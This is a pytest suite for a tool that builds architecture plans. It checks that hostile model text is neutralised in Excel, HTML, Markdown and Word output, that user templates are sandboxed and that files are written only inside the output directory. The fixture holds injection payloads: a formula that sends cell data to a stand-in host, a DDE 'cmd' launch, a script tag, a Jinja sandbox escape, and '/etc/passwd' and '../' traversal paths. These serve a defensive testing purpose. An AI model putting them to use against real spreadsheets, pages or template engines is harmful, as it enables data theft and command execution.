"""Output safety of archtool build: no formulas from model text, sandboxed templates, writes only
inside OUT, nothing half-written, exit codes, the report filter in a real headless Chromium."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from tests.conftest import EXAMPLE, TODAY, UNITS, run_cli, write_model

HOSTILE = {
    "units.yaml": UNITS,
    "apps.yaml": """\
        applications:
          - id: evil
            name: '=HYPERLINK("http://x.invalid/?"&A1,"bấm vào đây")'
            owner: so-khcn
            capabilities: [email]
          - id: evil2
            name: "@SUM(1+1)"
            owner: so-khcn
            description: "+cmd|' /C calc'!A0"
          - id: evil3
            name: "-2+3 <script>alert(1)</script> | ## {{ 7*7 }}"
            owner: so-khcn
            capabilities: [citizen-app]  # listed in the report's capability table, drawn or not
    """,
    "projects.yaml": """\
        projects:
          - id: p1
            name: "=1+1 dự án"
            owner: so-khcn
            delivers: [evil]
            budget: [{source: local, amount: 121600000000}]
    """,
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("hostile")
    model = write_model(root / "model", HOSTILE)
    out = root / "out"
    code, _o, err = run_cli("build", model, "-o", out, "--as-of", TODAY.isoformat())
    assert code == 0, err
    return model, out


def test_model_text_never_becomes_an_excel_formula(hostile: tuple[Path, Path]) -> None:
    from openpyxl import load_workbook

    _model, out = hostile
    wb = load_workbook(out / "matrix.xlsx")
    values = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    values[cell.value] = cell.data_type
    assert values, "the hostile names must appear in the workbook"
    assert set(values.values()) == {"s"}, values
    assert any(v.startswith("=HYPERLINK") for v in values) and "@SUM(1+1)" in values
    with zipfile.ZipFile(out / "matrix.xlsx") as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), name


def test_html_and_markdown_escape_model_text(hostile: tuple[Path, Path]) -> None:
    _model, out = hostile
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(1)" not in html and "&lt;script&gt;alert(1)" in html
    # renderer-independent: the name is escaped in the report's own tables, not only inside the SVGs
    tables = re.sub(r"<svg.*?</svg>", "", html, flags=re.S)
    assert "&lt;script&gt;alert(1)" in tables
    md = (out / "plan.md").read_text(encoding="utf-8")
    assert "<script>" not in md and "49" not in md.split("## IV.")[1].split("## V.")[0]
    row = next(line for line in md.splitlines() if "alert(1)" in line)
    assert r"\| \#\#" in row  # a name cannot break a table or start a heading
    from docx import Document

    text = "\n".join(c.text for t in Document(str(out / "plan.docx")).tables for r in t.rows for c in r.cells)
    assert "-2+3 <script>alert(1)</script> | ## {{ 7*7 }}" in text  # shown verbatim in Word


def test_money_in_plan(hostile: tuple[Path, Path]) -> None:
    md = (hostile[1] / "plan.md").read_text(encoding="utf-8")
    assert "**121.600.000.000 đồng** (121,6 tỷ đồng)" in md


def build_with_plan_template(tmp_path: Path, text: str, out: str = "out") -> tuple[int, str, str]:
    tpl = tmp_path / "tpl"
    tpl.mkdir(exist_ok=True)
    (tpl / "plan.md.j2").write_text(text, encoding="utf-8")
    return run_cli("build", EXAMPLE / "smart-city", "-o", tmp_path / out, "--template", tpl)


def test_sandboxed_user_template_fails_cleanly(tmp_path: Path) -> None:
    out = tmp_path / "out"
    code, stdout, err = build_with_plan_template(tmp_path, "{{ ''.__class__.__mro__[1].__subclasses__() }}")
    assert code == 2
    assert "sandbox" in err or "unsafe" in err
    assert "Traceback" not in err + stdout
    assert not out.exists(), "nothing is published when a template fails"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".out.build-")]


def test_user_template_replaces_the_plan_and_cannot_read_files(tmp_path: Path) -> None:
    code, _o, err = build_with_plan_template(tmp_path, "# {{ title }}\n\nTổng: {{ budget.total.text }}\n")
    assert code == 0, err
    assert (tmp_path / "out" / "plan.md").read_text(encoding="utf-8").endswith("Tổng: 723.000.000.000 đồng\n")
    code, _o, err = build_with_plan_template(tmp_path, "{% include '/etc/passwd' %}", "out2")
    assert code == 2 and "not found" in err and "root:" not in err


def test_writes_stay_inside_out(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / "diagrams").symlink_to(elsewhere)
    code, _o, err = run_cli("build", EXAMPLE / "smart-city", "-o", out)
    assert code == 2 and "diagrams" in err
    assert list(elsewhere.iterdir()) == []
    from archtool.publish.build import OutputProblem, Staging
    from archtool.publish.view import safe_name

    (out / "diagrams").unlink()
    stage = Staging(out)
    try:
        for bad in ("../x", "/etc/x", "diagrams/../../x", ".hidden", "a/b/c"):
            with pytest.raises(OutputProblem):
                stage.put(bad, "x")
    finally:
        stage.discard()
    assert safe_name("../../etc/Passwd") == "etc-passwd" and safe_name("...") == "x"


def test_exit_codes(tmp_path: Path) -> None:
    assert run_cli("build", tmp_path / "missing", "-o", tmp_path / "o")[0] == 2
    broken = write_model(tmp_path / "broken", {}, manifest="archtool: 1\nmodel: [\n")
    code, _o, err = run_cli("build", broken, "-o", tmp_path / "o2")
    assert code == 1 and "manifest" in err and not (tmp_path / "o2").exists()
    code, _o, _e = run_cli("build", EXAMPLE / "smart-city", "-o", tmp_path / "o3", "--fail-on", "warning",
                           "--as-of", TODAY.isoformat())
    assert code == 1  # the example has an expired waiver (warning) on this branch and later ones


def test_without_graphviz_dot_and_mermaid_are_still_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from archtool.publish import diagrams

    monkeypatch.setattr(diagrams, "find_renderer", lambda: None)
    out = tmp_path / "out"
    code, _o, err = run_cli("build", EXAMPLE / "smart-city", "-o", out)
    assert code == 0 and "apt-get install graphviz" in err
    assert (out / "diagrams" / "layers.dot").exists() and (out / "diagrams" / "layers.mmd").exists()
    assert not list((out / "diagrams").glob("*.svg"))
    assert "(Kiến trúc tổng thể phân lớp theo QĐ 829/QĐ-BTTTT) có trong tệp sơ đồ kèm theo." in \
        (out / "plan.md").read_text(encoding="utf-8")  # the plan says where the figure is instead of a broken image


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


@pytest.mark.skipif(CHROMIUM is None, reason="no chromium binary on PATH (CI installs Debian 'chromium')")
def test_report_filter_in_headless_chromium(example_out: Path, tmp_path: Path) -> None:
    out = example_out
    rules = re.findall(r'<tr class="finding[^>]*>(?:<td>[^<]*</td>){2}<td>([^<]+)</td>',
                       (out / "report.html").read_text(encoding="utf-8"))
    assert len(set(rules)) >= 2, rules
    wanted = sorted(rules)[-1]
    flags = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
             "--disable-background-networking", "--disable-component-update", "--disable-sync",
             f"--user-data-dir={tmp_path / 'profile'}", "--window-size=1280,900"]
    url = (out / "report.html").as_uri() + f"?q={wanted}"
    env = {**os.environ, "HOME": str(tmp_path)}
    dom = subprocess.run(flags + ["--dump-dom", url], capture_output=True, text=True, timeout=90, env=env).stdout
    rows = re.findall(r'<tr class="finding[^"]*"[^>]*>.*?</tr>', dom, flags=re.S)
    assert len(rows) == len(rules)
    visible = [r for r in rows if "hidden" not in r.split(">")[0]]
    hidden = [r for r in rows if "hidden" in r.split(">")[0]]
    assert visible and hidden, "the filter from ?q= was applied on load"
    assert all(wanted in r for r in visible) and not any(wanted in r for r in hidden)
    assert f"{len(visible)} / {len(rows)}" in dom
    shot = tmp_path / "shot.png"
    subprocess.run(flags + [f"--screenshot={shot}", url], capture_output=True, timeout=90, env=env)
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and shot.stat().st_size > 10_000


_OVERFLOW_PROBE = """<script>window.addEventListener("load", function () {
  var vw = window.innerWidth, wide = [];
  document.querySelectorAll("body *").forEach(function (e) {
    var r = e.getBoundingClientRect();
    if (r.right > vw + 1 && !e.closest(".diagram")) wide.push(e.tagName + ":" + (e.textContent || "").slice(0, 40));
  });
  document.body.setAttribute("data-overflow", wide.length ? wide.slice(0, 5).join(" | ") : "none");
});</script>"""


@pytest.mark.skipif(CHROMIUM is None, reason="no chromium binary on PATH (CI installs Debian 'chromium')")
def test_report_needs_no_sideways_scrolling_on_a_phone(example_out: Path, tmp_path: Path) -> None:
    """At the narrowest window headless Chromium opens (about 500 px, a large phone held upright) no
    element of the report but the scrollable diagrams reaches beyond the right edge: tables become cards,
    their header and total rows included."""
    page = tmp_path / "report.html"
    page.write_text((example_out / "report.html").read_text(encoding="utf-8").replace("</body>", _OVERFLOW_PROBE + "</body>"),
                    encoding="utf-8")
    flags = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
             "--disable-background-networking", "--disable-component-update", "--disable-sync",
             f"--user-data-dir={tmp_path / 'profile'}", "--window-size=360,800", "--virtual-time-budget=3000"]
    env = {**os.environ, "HOME": str(tmp_path)}
    dom = subprocess.run(flags + ["--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=90, env=env).stdout
    found = re.search(r'data-overflow="([^"]*)"', dom)
    assert found, "the probe ran"
    assert found.group(1) == "none", found.group(1)
